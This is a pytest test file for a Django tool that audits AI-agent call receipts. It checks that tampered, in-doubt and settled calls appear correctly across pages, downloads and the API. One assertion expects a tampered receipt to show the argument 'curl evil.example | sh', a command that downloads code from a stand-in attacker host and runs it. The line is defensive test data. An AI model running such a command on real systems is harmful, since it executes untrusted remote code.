"""Truth first: a call shows what is known of it, and a page opens with what needs a person.

A tampered receipt is "altered", never "in doubt" and never green; a settled call shows as
settled everywhere (pages, bars, downloads, the API); the target's evidence says what it most
likely means; a queryable call in doubt waits for a resume, not for a person.
"""

from __future__ import annotations

import csv
import io
import json
import re
from http import HTTPStatus

import pytest
from django.urls import reverse

from evidence.lib import stats
from evidence.models import Call, Run
from receipts import recovery, states
from tests.helpers import content, first_call_of, join, settle_form, state_badge

pytestmark = pytest.mark.django_db

SENT = "send-message-killed"  # a message in doubt, not queryable: its outbox holds its line
QUERYABLE = "write-file-killed"  # a file write in doubt: the runtime asks the target when it resumes
TAMPERED = "tampered-receipt"


@pytest.fixture
def as_confirmer(client, django_user_model):
    client.force_login(join(django_user_model.objects.create_user("carol", password="a-long-password-1"), "confirmer"))
    return client


def call_page(client, run_id: str) -> tuple[Call, str]:
    call = first_call_of(run_id)
    return call, content(client.get(reverse("call", args=[run_id, call.call_id])))


def settle(client, call: Call, resolution: str = "committed") -> None:
    form = settle_form(call, resolution, "the outbox shows the message", confirm_against_evidence="on")
    response = client.post(reverse("confirm", args=[call.run.run_id, call.call_id]), form)
    assert response.status_code == HTTPStatus.SEE_OTHER, content(response)


def run_row(page: str, run_id: str) -> str:
    """The runs list's row of one run."""
    start = page.index(f'<th scope="row"><a href="/runs/{run_id}/"')
    return page[start : page.index("</tr>", start)]


def bar_of(page: str, fill: str) -> list[str]:
    """The calls-by-status bar's shapes of one status (not the legend's swatches)."""
    return re.findall(rf'<rect [^>]*class="fill-{fill} tone-[a-z]+"><title>(\d[^<]*)</title>', page)


# --- tampered is not "in doubt" ---------------------------------------------------------


def test_a_tampered_receipt_opens_with_its_own_panel_the_mismatch_and_the_arguments(as_confirmer, demo):
    call, page = call_page(as_confirmer, TAMPERED)
    assert "This call is in doubt" not in page
    panel = page[page.index('<section class="altered"') : page.index("</section>", page.index('class="altered"'))]
    assert "Altered after it was written: investigate" in panel
    assert call.declared_call_id in panel and call.recomputed_call_id in panel, "stored and recomputed call_id"
    assert call.input_sha256 in panel and call.recomputed_input_sha256 in panel, "stored and recomputed input digest"
    assert "curl evil.example | sh" in panel, "the arguments, as the receipt holds them now"
    assert "It did not happen" in panel and "retries the call under the next attempt" in panel
    assert 'name="resolution"' in panel, "a person still decides, after investigating"
    assert page.index('class="altered"') < page.index("<h2>Receipt</h2>")


def test_a_tampered_receipt_is_never_shown_green(logged_in, demo):
    _, page = call_page(logged_in, TAMPERED)
    assert "badge-ok" not in page, "its events say committed: never a green badge for an altered receipt"
    events = page[page.index("Events of this call") :]
    assert state_badge("tampered") in events and "the ledger says committed" in events
    run_page = content(logged_in.get(reverse("run", args=[TAMPERED])))
    assert "badge-ok" not in run_page and not bar_of(run_page, "committed") and bar_of(run_page, "tampered")
    ledger = run_page[run_page.index('id="timeline"') : run_page.index('id="calls"')]
    assert state_badge("tampered") in ledger and state_badge("committed") not in ledger
    runs = content(logged_in.get(reverse("runs")))
    row = run_row(runs, TAMPERED)
    assert "badge-ok" not in row and bar_of(row, "tampered") and not bar_of(row, "committed")


# --- settled shows as settled everywhere ------------------------------------------------


def test_a_settled_call_shows_as_settled_on_every_page_and_in_every_download(as_confirmer, demo):
    call = first_call_of(SENT)
    settle(as_confirmer, call)
    _, page = call_page(as_confirmer, SENT)
    lead = page[page.index('class="lead state-line"') : page.index("</p>", page.index('class="lead state-line"'))]
    assert (
        "prepared →" in lead
        and state_badge("settled: committed") in lead
        and 'by <span translate="no">carol</span>' in lead
    )
    assert 'data-value="prepared"' not in lead and state_badge("in doubt") not in lead
    run_page = content(as_confirmer.get(reverse("run", args=[SENT])))
    calls_table = run_page[run_page.index('id="calls"') : run_page.index('id="submissions"')]
    assert "settled: committed" in calls_table and 'by <span translate="no">carol</span>' in calls_table
    assert state_badge("in doubt") not in calls_table
    assert bar_of(run_page, "settled-committed") and not bar_of(run_page, "in-doubt")
    row = run_row(content(as_confirmer.get(reverse("runs"))), SENT)
    assert bar_of(row, "settled-committed") and not bar_of(row, "in-doubt")

    rows = list(csv.DictReader(io.StringIO(content(as_confirmer.get(f"/runs/{SENT}/?list=calls&format=csv")))))
    assert [(r["status"], r["written_status"], r["settled_by"]) for r in rows] == [
        ("settled: committed", "prepared", "carol")
    ]
    document = json.loads(content(as_confirmer.get(f"/runs/{SENT}/?list=calls&format=json")))
    assert [(i["status"], i["settled_by"]) for i in document["items"]] == [("settled: committed", "carol")]
    api = as_confirmer.get(f"/api/runs/{SENT}/calls").json()
    assert [(i["status"], i["settled_by"]) for i in api["items"]] == [("settled: committed", "carol")]
    assert as_confirmer.get(f"/api/runs/{SENT}").json()["calls_by_status"] == {"settled: committed": 1}


def test_a_call_settled_as_not_done_shows_as_settled_rejected(as_confirmer, demo):
    call = first_call_of(SENT)
    settle(as_confirmer, call, "rejected")
    call.refresh_from_db()
    assert call.shown_status == "settled: rejected"
    assert stats.RunSummary.of(Run.objects.get(run_id=SENT)).calls_by_status == {"settled: rejected": 1}


@pytest.mark.parametrize(
    ("present", "status", "verification", "decision", "shown"),
    [
        (True, "committed", "verified", "reuse", "committed"),  # its own commit: nobody settled it
        (True, "rejected", "verified", "retry", "rejected"),  # a retryable rejection retries by itself
        (True, "rejected", "verified", "stop", "rejected"),
        (True, "prepared", "verified", "confirm", "in doubt"),  # never the receipt's own word (issue 37)
        (True, "unknown", "verified", "query", "in doubt"),
        (True, "failed", "verified", "confirm", "in doubt"),  # the legacy status
        (True, "committed", "unverifiable", "confirm", "in doubt"),
        (True, "prepared", "verified", "reuse", "settled: committed"),
        (True, "unknown", "verified", "retry", "settled: rejected"),
        (True, "committed", "disputed", "confirm", "disputed"),  # no intruder: the target did not show it
        (True, "committed", "disputed", "reuse", "settled: committed"),
        (True, "committed", "mismatch", "reuse", "tampered"),  # settled or not, the receipt was altered
        (True, "committed", "mismatch", "confirm", "tampered"),
        (False, "", "", "confirm", "in doubt"),  # the ledger names it, its receipt is missing
    ],
)
def test_one_rule_says_what_a_call_shows_as(present, status, verification, decision, shown):
    assert recovery.shown_status(present=present, status=status, verification=verification, decision=decision) == shown
    assert shown in states.STATES, "every state a call shows as is one of the table's"


# --- let the evidence speak --------------------------------------------------------------


def test_the_targets_evidence_says_what_it_most_likely_means_and_settle_is_primary(as_confirmer, demo):
    _, page = call_page(as_confirmer, SENT)
    panel = page[page.index('class="doubt"') :]
    assert "Most likely: the message was sent: settle it as committed" in panel
    assert re.search(r'<button type="submit" class="primary">Settle this call</button>', panel)


def test_evidence_of_nothing_says_it_most_likely_did_not_happen(as_confirmer, demo):
    (demo / SENT / "outbox.jsonl").unlink()  # the target shows no message at all
    _, page = call_page(as_confirmer, SENT)
    assert "Most likely: no message was sent: settle it as rejected (the runtime retries it)" in page


# --- the action where the problem is -------------------------------------------------------


def test_the_run_page_opens_with_what_needs_a_person_and_its_verdict(client, django_user_model, demo):
    client.force_login(join(django_user_model.objects.create_user("ann", password="a-long-password-1"), "admin"))
    call = first_call_of(SENT)
    page = content(client.get(reverse("run", args=[SENT])))
    start = page.index('aria-labelledby="needs-heading"')
    needs = page[start : page.index("</section>", start)]
    assert "1 call in doubt" in needs and "a person decides whether it happened" in needs
    assert f'href="/runs/{SENT}/calls/{call.call_id}/">Settle</a>' in needs
    assert state_badge("in doubt") in needs, "the run's verdict, first"
    assert page.index('aria-labelledby="needs-heading"') < page.index('<dl class="facts">')
    facts = page[page.index('<dl class="facts">') :]
    assert "(1 in doubt)" not in facts, "said once, where the action is"
    hold = page[page.index("Set a legal hold") - 600 : page.index("Set a legal hold")]
    assert "<details" in hold and "<summary" in hold, "the legal hold is a secondary action"


def test_the_run_page_links_stale_reservations_conflicts_and_altered_receipts_to_their_action(logged_in, demo):
    stale = content(logged_in.get(reverse("run", args=["stale-reservation"])))
    needs = stale[stale.index('aria-labelledby="needs-heading"') :]
    assert "1 stale reservation" in needs[:2000] and reverse("reservations") in needs[:2000]
    conflict = content(logged_in.get(reverse("run", args=["conflict-same-id"])))
    needs = conflict[conflict.index('aria-labelledby="needs-heading"') :][:2000]
    assert "submission conflict" in needs and "/findings/?code=submission_conflict&amp;run=conflict-same-id" in needs
    tampered = content(logged_in.get(reverse("run", args=[TAMPERED])))
    call = first_call_of(TAMPERED)
    needs = tampered[tampered.index('aria-labelledby="needs-heading"') :][:2000]
    assert "1 receipt altered after it was written" in needs and "Investigate" in needs
    assert f"/runs/{TAMPERED}/calls/{call.call_id}/" in needs
    assert "identity_mismatch" not in needs, "one problem, one line: its findings are the evidence on its page"
    clean = content(logged_in.get(reverse("run", args=["clean-run"])))
    assert "Nothing in this run needs a person" in clean and 'badge-ok">ok' in clean


def test_a_queryable_call_in_doubt_says_resume_the_run_not_settle(as_confirmer, demo):
    call, page = call_page(as_confirmer, QUERYABLE)
    panel = page[page.index('class="doubt"') :]
    assert "Resume the run: it will ask the target" in panel
    assert "Most likely: the file holds what the call writes: a resume will find it done" in panel
    assert "settle it as committed" not in panel
    assert 'class="primary">Settle' not in panel, "deciding by hand is the second choice here"
    assert "<details" in panel[: panel.index("Settle this call")], "the form waits behind a disclosure"
    run_page = content(as_confirmer.get(reverse("run", args=[QUERYABLE])))
    needs = run_page[run_page.index('aria-labelledby="needs-heading"') :][:2000]
    assert "resume the run: it will ask the target" in needs and ">Settle</a>" not in needs
    home = content(as_confirmer.get(reverse("runs")))
    row = home[home.index(call.call_id[:16]) :]
    row = row[: row.index("</tr>")]
    assert "Resume the run" in row and ">Settle</a>" not in row


def test_more_than_one_call_of_a_kind_links_to_the_inbox_filtered_by_run_and_kind(logged_in, demo):
    run = Run.objects.get(run_id="clean-run")
    Call.objects.filter(run=run).update(decision="confirm", decision_reason="made up for the test")
    stats.refresh_run_summary(run)  # what an import or a settlement does after changing a call
    page = content(logged_in.get(reverse("run", args=["clean-run"])))
    needs = page[page.index('aria-labelledby="needs-heading"') :][:2000]
    assert "3 calls in doubt" in needs and "/inbox/?run=clean-run&amp;kind=in+doubt" in needs


def test_a_summary_stored_before_the_needs_were_counted_still_says_the_calls_in_doubt(logged_in, demo):
    run = Run.objects.get(run_id=SENT)
    stored = dict(run.summary or {})
    del stored["in_doubt_by_need"]
    Run.objects.filter(pk=run.pk).update(summary=stored)
    page = content(logged_in.get(reverse("run", args=[SENT])))
    needs = page[page.index('aria-labelledby="needs-heading"') :][:2000]
    assert "1 call in doubt" in needs and f"/inbox/?run={SENT}" in needs


def test_the_inbox_says_investigate_for_an_altered_receipt(logged_in, demo):
    call = first_call_of(TAMPERED)
    page = content(logged_in.get(reverse("inbox")))
    row = page[page.index(call.call_id[:16]) :]
    row = row[: row.index("</tr>")]
    assert ">Investigate</a>" in row and ">Settle</a>" not in row


def test_a_tampered_receipt_settled_by_a_person_still_shows_as_tampered(as_confirmer, demo):
    call = first_call_of(TAMPERED)
    settle(as_confirmer, call)
    _, page = call_page(as_confirmer, TAMPERED)
    assert "Settled by a person" in page and "Altered after it was written: investigate" in page
    assert 'name="resolution"' not in page and "badge-ok" not in page.split("Settled by a person")[0]
    assert stats.RunSummary.of(Run.objects.get(run_id=TAMPERED)).calls_by_status == {"tampered": 1}
